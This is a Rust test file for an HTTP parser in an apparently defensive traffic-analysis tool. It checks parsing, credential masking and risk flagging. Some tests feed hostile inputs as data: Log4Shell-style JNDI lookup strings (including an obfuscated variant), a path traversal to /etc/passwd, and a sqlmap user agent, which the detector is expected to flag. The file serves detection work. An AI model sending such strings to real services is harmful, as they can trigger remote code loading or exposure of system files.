use super::super::trial::{Said, guess, streams};
use super::*;
use crate::app::Next;

fn lines(pieces: &[(bool, &[u8])]) -> Said {
    let mut said = Said::default();
    let mut parser = connection::Connection::new();
    streams(&mut parser, pieces.iter().copied(), &mut said);
    said
}

/// The same in single bytes; what the start of a body shows depends on the pieces.
fn bytewise(pieces: &[(bool, &[u8])]) -> Said {
    let mut said = Said::default();
    let mut parser = connection::Connection::new();
    let bytes = pieces
        .iter()
        .flat_map(|&(side, piece)| piece.iter().map(move |&byte| (side, [byte])));
    streams(&mut parser, bytes, &mut said);
    said
}

#[test]
fn pipelined_requests_are_paired() {
    let pieces: &[(bool, &[u8])] = &[
        (
            true,
            b"GET /a HTTP/1.1\r\nHost: one.example:80\r\n\r\nHEAD /b HTTP/1.1\r\nHost: one.example\r\n\r\nGET /c HTTP/1.1\r\nHost: one.example\r\n\r\n",
        ),
        (
            false,
            b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabcHTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\nHTTP/1.1 304 Not Modified\r\n\r\n",
        ),
    ];
    for said in [lines(pieces), bytewise(pieces)] {
        assert!(said.has("Response(0, Response { status: 100"), "{said:#?}");
        assert!(said.has("Response(0, Response { status: 200"));
        assert!(said.has("End { number: 0, of_request: false, body_len: 3, complete: true }"));
        assert!(said.has("Response(1, Response { status: 200"));
        assert!(said.has("End { number: 1, of_request: false, body_len: 0, complete: true }"));
        assert!(said.has("Response(2, Response { status: 304"));
        assert!(said.has("ServerName"));
    }
}

#[test]
fn chunks_and_their_trailers() {
    let pieces: &[(bool, &[u8])] = &[
        (true, b"GET / HTTP/1.1\r\n\r\n"),
        (
            false,
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5;x=y\r\nhello\r\n6\r\n world\r\n0\r\nA: b\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        ),
    ];
    for said in [lines(pieces), bytewise(pieces)] {
        assert!(
            said.has("End { number: 0, of_request: false, body_len: 11, complete: true }"),
            "{said:#?}"
        );
        assert!(said.has("Response(1, Response { status: 404"));
        assert!(said.has("risk: error_code HTTP status 404"));
    }
}

#[test]
fn a_body_until_the_end() {
    let said = lines(&[(true, b"GET /old\r\n"), (false, b"<html>old</html>")]);
    assert!(said.has("version: [48, 46, 57]"), "{said:#?}");
    assert!(said.has("End { number: 0, of_request: false, body_len: 16, complete: true }"));
}

#[test]
fn credentials_are_told_without_the_password() {
    let said = lines(&[(
        true,
        b"POST /login HTTP/1.1\r\nAuthorization: Basic bWU6c2VjcmV0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\nuser=a%40b.c&password=hunter2",
    )]);
    assert!(said.has("login: me basic None true"), "{said:#?}");
    assert!(said.has("login: a@b.c form None true"));
    assert!(
        !said
            .0
            .iter()
            .any(|line| line.starts_with("login") && line.contains("hunter2"))
    );
}

#[test]
fn who_logs_in_by_ntlm() {
    // Its third message: WG, ann, PC, and no answer to a challenge.
    let message = "TlRMTVNTUAADAAAAAAAAAEgAAAAAAAAASAAAAAQABABIAAAABgAGAEwAAAAEAAQAUgAAAAAAAABWAAAAAQAAAgoAYUoAAAAPVwBHAGEAbgBuAFAAQwA=";
    for scheme in ["NTLM", "Negotiate"] {
        let request = format!("GET / HTTP/1.1\r\nAuthorization: {scheme} {message}\r\n\r\n");
        let said = lines(&[(true, request.as_bytes())]);
        assert!(said.has("login: WG\\ann NTLM None false"), "{said:#?}");
    }
    let said = lines(&[(
        true,
        b"GET / HTTP/1.1\r\nAuthorization: NTLM TlRMTVNTUAABAAAA\r\n\r\n",
    )]);
    assert!(!said.has("login"), "{said:#?}");
}

#[test]
fn tunnels_are_left_to_recognition() {
    let mut said = Said::default();
    let mut parser = connection::Connection::new();
    let pieces: [(bool, &[u8]); 2] = [
        (true, b"CONNECT mail.example:25 HTTP/1.0\r\n\r\nEHLO x\r\n"),
        (false, b"HTTP/1.0 200 Connection established\r\n\r\n"),
    ];
    let next = streams(&mut parser, pieces, &mut said);
    assert!(matches!(next, Next::Become(None)));
    assert!(said.has("source: \"http_proxy\""));
}

/// Whom a request names: the one that is asked, or another behind a proxy.
#[test]
fn requests_to_proxies_name_another() {
    for (target, source) in [
        ("GET http://h.example/x", "http_proxy"),
        ("CONNECT h.example:443", "http_proxy"),
        ("GET /x?u=http://other.example/", "http_host"),
        ("OPTIONS *", "http_host"),
    ] {
        let request = format!("{target} HTTP/1.1\r\nHost: h.example\r\n\r\n");
        let said = lines(&[(true, request.as_bytes())]);
        assert!(
            said.has(&format!("source: \"{source}\"")),
            "{target}: {said:#?}"
        );
    }
}

#[test]
fn upgrades_change_the_protocol() {
    let mut said = Said::default();
    let mut parser = connection::Connection::new();
    let pieces: [(bool, &[u8]); 2] = [
        (true, b"GET /chat HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
        (
            false,
            b"HTTP/1.1 101 Switching\r\nUpgrade: WebSocket\r\n\r\n\x81\x01a",
        ),
    ];
    let next = streams(&mut parser, pieces, &mut said);
    assert!(matches!(next, Next::Become(Some(detector)) if detector.protocol.name == "websocket"));
    assert!(said.has("service: websocket"));
}

#[test]
fn after_a_gap_the_next_head_is_found() {
    use super::super::{Context, Parser};
    let mut said = Said::default();
    let mut parser = connection::Connection::new();
    let context = |from_client| Context {
        timestamp: netloom_packet::Timestamp::from_nanos(0),
        number: 1,
        from_client,
        tcp: true,
        client: ([192, 0, 2, 1].into(), 1),
        server: ([192, 0, 2, 2].into(), 80),
        wire_len: 0,
    };
    parser.stream(
        &context(true),
        b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
        &mut said,
    );
    parser.stream(
        &context(false),
        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nab",
        &mut said,
    );
    // Inside the body.
    parser.gap(&context(false), 90, &mut said);
    let step = parser.stream(&context(false), b"12345678HTTP/1.1 404 Lost\r\n", &mut said);
    assert!(said.has("End { number: 0, of_request: false, body_len: 100, complete: true }"));
    assert_eq!(step.consumed, 8);
    // Inside a head.
    parser.gap(&context(false), 10, &mut said);
    parser.stream(
        &context(false),
        b"t: x\r\n\r\nHTTP/1.1 500 Found\r\nContent-Length: 0\r\n\r\n",
        &mut said,
    );
    assert!(
        said.has("Response(1, Response { status: 404"),
        "what was there of it"
    );
    assert!(said.has("Response(2, Response { status: 500"), "{said:#?}");
}

/// A capture that begins in the middle of a message: what is left of it does not say who asks.
#[test]
fn the_rest_of_a_message_comes_first() {
    let rest: &[u8] = b"\x17\xa7\x00rest of\na body\r\n";
    let request: &[u8] = b"GET /next HTTP/1.1\r\nHost: one.example\r\n\r\n";
    let response: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    for client_asks in [true, false] {
        let download = [
            (!client_asks, rest),
            (client_asks, request),
            (!client_asks, b"end\r\n".as_slice()),
            (!client_asks, response),
        ];
        let upload = [
            (client_asks, rest),
            (!client_asks, response),
            (client_asks, request),
            (!client_asks, response),
        ];
        for pieces in [download, upload] {
            for said in [lines(&pieces), bytewise(&pieces)] {
                assert!(said.has("uri: [47, 110, 101, 120, 116]"), "{said:#?}");
                assert!(said.has("Response(0, Response { status: 200"));
                assert!(
                    said.has("End { number: 0, of_request: false, body_len: 2, complete: true")
                );
            }
        }
    }
}

#[test]
fn programs_in_bodies() {
    let said = lines(&[
        (true, b"GET /a.png HTTP/1.1\r\nHost: 192.0.2.9\r\nUser-Agent: sqlmap/1.4\r\n\r\n"),
        (
            false,
            b"HTTP/1.1 200 OK\r\nServer: Apache/1.3.1\r\nContent-Type: image/png\r\nContent-Length: 5\r\n\r\nMZ\x90\0\x03",
        ),
    ]);
    for risk in [
        "binary_transfer",
        "suspicious_content",
        "numeric_host",
        "suspicious_user_agent",
        "obsolete_server",
    ] {
        assert!(said.has(&format!("risk: {risk}")), "{risk} in {said:#?}");
    }
}

#[test]
fn programs_that_are_sent() {
    let said = lines(&[(
        true,
        b"POST /a HTTP/1.1\r\nContent-Length: 5\r\n\r\nMZ\x90\0\x03",
    )]);
    assert!(said.has("risk: binary_transfer sent: "), "{said:#?}");
}

#[test]
fn attacks_by_look_ups() {
    for attack in [
        &b"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D HTTP/1.1\r\n\r\n"[..],
        b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://h/a}\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nuname=%24%7Bjndi%3Aldap%3Aa",
        b"POST / HTTP/1.1\r\nContent-Length: 15\r\n\r\n{\"a\":\"${jndi:a}",
    ] {
        let said = lines(&[(true, attack)]);
        assert!(said.has("risk: exploit ${"), "{said:#?}");
    }
    let said = lines(&[(true, b"GET /?price=%2410&a=${name} HTTP/1.1\r\n\r\n")]);
    assert!(!said.has("exploit"), "{said:#?}");
}

#[test]
fn logins_in_what_is_asked_for() {
    let said = lines(&[
        (true, b"GET /in?user=bob&pass%77ord=secret HTTP/1.1\r\nHost: bob:secret@h.example:80\r\n\r\n"),
        (true, b"GET /?f=../../etc/passwd&pwd=secret HTTP/1.1\r\nReferer: /in?user=eve&password=secret\r\n\r\n"),
        (true, b"GET ftp://anonymous:me@h/ HTTP/1.1\r\n\r\n"),
        (true, b"POST / HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 30\r\n\r\n{\"login\":\"ann\",\"password\":\"x\"}"),
    ]);
    let logins: Vec<_> = said
        .0
        .iter()
        .filter(|line| line.starts_with("login"))
        .collect();
    assert_eq!(
        logins,
        [
            "login: bob url None true",
            "login:  url None true",
            "login: ann json None true"
        ]
    );
    assert!(said.has("risk: suspicious_url path traversal: /?f=../../etc/passwd&pwd=***"));
    let host = format!("name: {:?}, source", b"h.example");
    assert!(said.has(&host), "{said:#?}");
}

#[test]
fn what_is_http_and_what_is_not() {
    for yes in [
        &b"GET / HTTP/1.1\r\n"[..],
        b"FROBNICATE /x HTTP/1.0\r\n",
        b"HTTP/1.1 200 OK\r\n",
        b"\r\nPOST /x HTTP/1.1\r\n",
        b"ICY 200 OK\r\n",
        b"GET /x\r\n",
    ] {
        assert_eq!(
            guess(&DETECTOR, yes),
            Guess::Certain,
            "{}",
            yes.escape_ascii()
        );
    }
    for early in [&b"G"[..], b"", b"POST", b"POST ", b"HTT"] {
        assert_eq!(
            guess(&DETECTOR, early),
            Guess::More,
            "{}",
            early.escape_ascii()
        );
    }
    for no in [
        &b"OPTIONS rtsp://h/ RTSP/1.0\r\n"[..],
        b"INVITE sip:a@b SIP/2.0\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"220 mail.example ESMTP\r\n",
        b"SSH-2.0-x\r\n",
        b"\x16\x03\x01\x02\0",
    ] {
        assert_eq!(guess(&DETECTOR, no), Guess::No, "{}", no.escape_ascii());
    }
}

mod any {
    use proptest::prelude::*;

    use super::*;
    use crate::app::Parser;

    fn token() -> impl Strategy<Value = Vec<u8>> {
        prop_oneof![
            Just(b"GET / HTTP/1.1\r\n".to_vec()),
            Just(b"POST /x HTTP/1.1\r\n".to_vec()),
            Just(b"CONNECT a:1 HTTP/1.1\r\n\r\n".to_vec()),
            Just(b"HTTP/1.1 200 OK\r\n".to_vec()),
            Just(b"HTTP/1.1 101 X\r\nUpgrade: x\r\n\r\n".to_vec()),
            Just(b"Content-Length: 7\r\n".to_vec()),
            Just(b"Transfer-Encoding: chunked\r\n".to_vec()),
            Just(b"\r\n".to_vec()),
            Just(b"5\r\nhello\r\n0\r\n\r\n".to_vec()),
            proptest::collection::vec(any::<u8>(), 0..20),
        ]
    }

    proptest! {
        #[test]
        fn bytes_never_panic(pieces in proptest::collection::vec((any::<bool>(), token()), 0..30)) {
            let mut said = Said::default();
            let mut parser = connection::Connection::new();
            streams(&mut parser, pieces, &mut said);
            prop_assert!(parser.heap_bytes() < 32 * 1024);
        }
    }
}
